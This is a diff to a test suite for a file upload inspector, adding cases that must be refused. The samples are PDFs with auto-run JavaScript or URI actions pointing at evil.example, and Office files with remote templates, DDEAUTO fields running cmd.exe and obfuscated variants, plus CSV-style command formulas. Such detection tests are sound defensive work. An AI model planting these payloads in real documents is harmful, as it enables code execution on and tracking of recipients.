@@ -114,6 +114,52 @@ describe('what is refused', () => {
     expect(await inspect(aPdf(['<< /S /URI /URI (https://hue.gov.vn) >>']))).toBe('application/pdf')
   })
 
+  test.each([
+    ['opens a page of the web', '<< /OpenAction << /S /URI /URI (http://evil.example) >> >>'],
+    [
+      'opens one after showing a page',
+      '<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (http://evil.example) >>] >> >>',
+    ],
+    ['opens one by an object of its own', '<< /OpenAction 5 0 R >>'],
+    ['acts when a page is shown', '<< /AA << /O << /S /URI /URI (http://evil.example) >> >> >>'],
+    ['acts by an object of its own', '<< /A#41 %\n5 0 R >>'],
+    ['opens a file on another machine', '<< /S /GoToR /F (//evil.example/a) /D [0 /Fit] >>'],
+    ['reads an article of one', '<< /OpenAction << /S /Thread /F (//evil.example/a) /D 0 >> >>'],
+    ['plays a film', '<< /Subtype /Movie /Movie << /F (http://evil.example/a.avi) >> >>'],
+    ['plays a sound', '<< /Subtype /Sound /Sound 5 0 R >>'],
+    ['shows a model', '<< /Type /3D /Subtype /U3D >>'],
+    ['takes data from elsewhere', '<< /F (//evil.example/a) /Length 0 >>\nstream\n\nendstream'],
+    ['takes them by an address', '<< /F << /FS /URL /F (http://a) >> /Length 0 >>\nstream\n\nendstream'],
+    ['shows a page of another file', '<< /Ref << /F (//e/a) /Page 0 >> /Length 0 >>\nstream\n\nendstream'],
+    ['spells a name with a zero behind it', '<< /S /JavaScript#00 /JS (app.alert(1)) >>'],
+    ['hides it before more', `<< /S /JavaScript#00${'x'.repeat(99)} /JS (app.alert(1)) >>`],
+  ])('a PDF that %s', async (_, object) => {
+    const file = aPdf([object, '<< /S /URI /URI (http://evil.example) >>'])
+    await expect(inspect(file)).rejects.toEqual(refusal('active_pdf'))
+    // A damaged file is looked at as it is repaired.
+    const damaged = latin1(file.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7'))
+    await expect(inspect(damaged)).rejects.toEqual(refusal('active_pdf'))
+  })
+
+  test('a PDF with packed forms of a number with a sign', async () => {
+    const packed = aPackedPdf([
+      { number: 5, source: '[3 0 R /Fit]' },
+      { number: 6, source: '<< /Fields [] /XFA +4 0 R >>' },
+    ])
+    await expect(inspect(packed)).rejects.toEqual(refusal('active_pdf'))
+  })
+
+  test('not a PDF that shows a page when it is opened, or waits for a click', async () => {
+    for (const object of [
+      '<< /OpenAction [3 0 R /XYZ null null 0] >>',
+      '<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /LastPage >> >> >>',
+      '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://hue.gov.vn) >> >>',
+      '<< /F /FlateDecode /Length 0 >>\nstream\n\nendstream',
+    ]) {
+      expect(await inspect(aPdf([object])), object).toBe('application/pdf')
+    }
+  })
+
   test('a PDF that hides the action in an object stream, also at a seam between two windows', async () => {
     const hidden = deflateSync(latin1('1 0 << /S /JavaScript /JS (app.alert(1)) >>'))
     const packed = Buffer.concat([
@@ -143,7 +189,7 @@ describe('what is refused', () => {
 
   describe('a PDF whose object stream only following the cross-references shows', () => {
     const action = { number: 5, source: '<< /S /JavaScript /JS (app.alert(1)) >>' }
-    const harmless = { number: 5, source: '<< /S /URI /URI (https://hue.gov.vn) >>' }
+    const harmless = { number: 5, source: '<< /S /GoTo /D [3 0 R /Fit] >>' }
     const cases: [string, (packed: typeof action) => Buffer][] = [
       ['without a type', (packed) => aPackedPdf([packed], { dictionary: '' })],
       ['with another type', (packed) => aPackedPdf([packed], { dictionary: '/Type /XObject' })],
@@ -200,6 +246,21 @@ describe('what is refused', () => {
     await expect(inspect(polyglot)).rejects.toEqual(refusal('unreadable'))
   })
 
+  test('a picture with an archive behind it, or shown in thousands of scans', async () => {
+    const archive = aZip([{ name: 'a.js', data: latin1('1') }])
+    for (const picture of [aPng(), aJpeg()]) {
+      await expect(inspect(Buffer.concat([picture, archive]))).rejects.toEqual(refusal('unreadable'))
+      // Cameras put films and small pictures there.
+      expect(await inspect(Buffer.concat([picture, latin1('\0\0\0\x18ftypmp42')]))).toMatch(/^image/)
+    }
+    const scans = (count: number) => {
+      const [head, scan] = [aJpeg().subarray(0, 33), aJpeg().subarray(33, -2)]
+      return Buffer.concat([head, ...Array.from({ length: count }, () => scan), latin1('\xff\xd9')])
+    }
+    expect(await inspect(scans(12))).toBe('image/jpeg')
+    await expect(inspect(scans(40_000))).rejects.toEqual(refusal('unpacks_too_large'))
+  })
+
   test('a picture of impossible size or without an end', async () => {
     await expect(inspect(aPng(60_000, 60_000))).rejects.toEqual(refusal('image_too_large'))
     await expect(inspect(aJpeg(20_000, 20_000))).rejects.toEqual(refusal('image_too_large'))
@@ -237,12 +298,111 @@ describe('what is refused', () => {
       'word/_rels/settings.xml.rels',
       '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>',
     ],
+    [
+      'a template from elsewhere under a prefix',
+      'word/document.xml',
+      'word/_rels/settings.xml.rels',
+      '<p:Relationship Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>',
+    ],
+    ...[
+      'file:///\\\\evil.example\\s\\x.dotm',
+      'file:////evil.example/s/x.dotm',
+      '\\\\evil.example\\x.dotm',
+    ].map((target): [string, string, string, string] => [
+      `a template at ${target}`,
+      'word/document.xml',
+      'word/_rels/settings.xml.rels',
+      `<Relationship Type="http://x/attachedTemplate" Target="${target}" TargetMode="External"/>`,
+    ]),
+    [
+      'a template with two targets',
+      'word/document.xml',
+      'word/_rels/settings.xml.rels',
+      '<Relationship a:Target="file:///C:/x" Type="http://x/attachedTemplate" Target="http://evil.example/x"/>',
+    ],
+    [
+      'a picture that is fetched',
+      'word/document.xml',
+      'word/_rels/document.xml.rels',
+      '<Relationship Type="http://x/image" Target="//evil.example/x.png" TargetMode="External"/>',
+    ],
+    ...['aFChunk', 'control', 'mailMergeSource', 'connections'].map(
+      (kind): [string, string, string, string] => [
+        `a relation to ${kind}`,
+        'word/document.xml',
+        'word/_rels/document.xml.rels',
+        `<Relationship Type="http://x/${kind}" Target="x.xml"/>`,
+      ],
+    ),
+    ...[
+      '<w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>',
+      '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO cmd</w:instrText></w:r>',
+      '<w:fldSimple w:dirty="true" w:instr=" dde cmd"/>',
+      '<w:fldSimple w:x=">" w:instr="DDE&#65;UTO cmd"/>',
+      '<w:instrText>DD<w:x/>EAUTO cmd</w:instrText>',
+      '<w:instrText>DD<!-- -->EAUTO cmd</w:instrText>',
+      '<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>',
+      '<w:instrText>QUOTE 68 68 69</w:instrText>',
+      '<w:instrText> LINK Excel.Sheet.12 "//evil.example/a.xlsx"</w:instrText>',
+      '<!DOCTYPE a [<!ENTITY a "aaaa">]>',
+    ].map((inside): [string, string, string, string] => [
+      inside,
+      'word/document.xml',
+      'word/header1.xml',
+      `<w:hdr xmlns:w="x">${inside}</w:hdr>`,
+    ]),
+    ...[
+      "cmd|'/c calc'!A0",
+      '_xlfn.WEBSERVICE("http://x")',
+      'DDE("a";"b";"c")',
+      '\'a"\'!A1&amp;CALL("x")',
+    ].map((formula): [string, string, string, string] => [
+      `the formula ${formula}`,
+      'xl/workbook.xml',
+      'xl/worksheets/sheet1.xml',
+      `<worksheet><c><f t="shared">${formula}</f></c></worksheet>`,
+    ]),
+    ['a source of data', 'xl/workbook.xml', 'xl/connections.xml', '<connections/>'],
     ['an embedded object', 'word/document.xml', 'word/embeddings/oleObject1.bin', 'MZ'],
     ['any other program', 'word/document.xml', 'word/foo.bin', 'MZ'],
   ])('an office file with %s', async (_, main, name, data) => {
     const parts = { '[Content_Types].xml': '<Types/>', [main]: '<document/>', [name]: data }
     const file = aZip(Object.entries(parts).map(([name, data]) => ({ name, data: Buffer.from(data) })))
     await expect(inspect(file)).rejects.toMatchObject({ code: 'files.macros' })
+  })
+
+  test('an office file whose lists some readers take for others', async () => {
+    const listing = 'word/_rels/document.xml.rels'
+    const pieces: [string, Buffer][] = [
+      ['[content_types].xml', latin1('<Types/>')],
+      [listing, latin1('<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationship +AD4-')],
+      // `<?xml` of EBCDIC.
+      [listing, Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40])],
+    ]
+    for (const [name, data] of pieces) {
+      await expect(inspect(anOfficeFile('word/document.xml', [{ name, data }]))).rejects.toEqual(
+        refusal('unreadable'),
+      )
+    }
+  })
+
+  test('not an office file with links to click, numbers of pages and sums', async () => {
+    const link = '<Relationship Type="http://x/hyperlink" Target="https://hue.gov.vn" TargetMode="External"/>'
+    const fields =
+      '<w:fldChar/><w:instrText> PAGE </w:instrText><w:fldChar/><w:instrText>HYPERLINK "https://hue.gov.vn"</w:instrText>'
+    const sum = `<worksheet><f>SUM(A1:A9)&amp;" a|b "&amp;'Thu|chi'!A1</f></worksheet>`
+    const parts = [
+      { name: 'word/_rels/document.xml.rels', data: latin1(link) },
+      {
+        name: 'word/footer1.xml',
+        data: latin1(`\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>\r\n${fields}`),
+      },
+      { name: 'word/footer2.xml', data: Buffer.from(`\ufeff<w:ftr>${fields}</w:ftr>`, 'utf16le') },
+      { name: 'customXml/item1.xml', data: latin1('<?mso-x?><a><!-- b --><![CDATA[c]]></a>') },
+    ]
+    expect(await inspect(anOfficeFile('word/document.xml', parts))).toContain('wordprocessingml')
+    const sheet = { name: 'xl/worksheets/sheet1.xml', data: latin1(sum) }
+    expect(await inspect(anOfficeFile('xl/workbook.xml', [sheet]))).toContain('spreadsheetml')
   })
 
   test('an office file that unpacks to far more than it is', async () => {
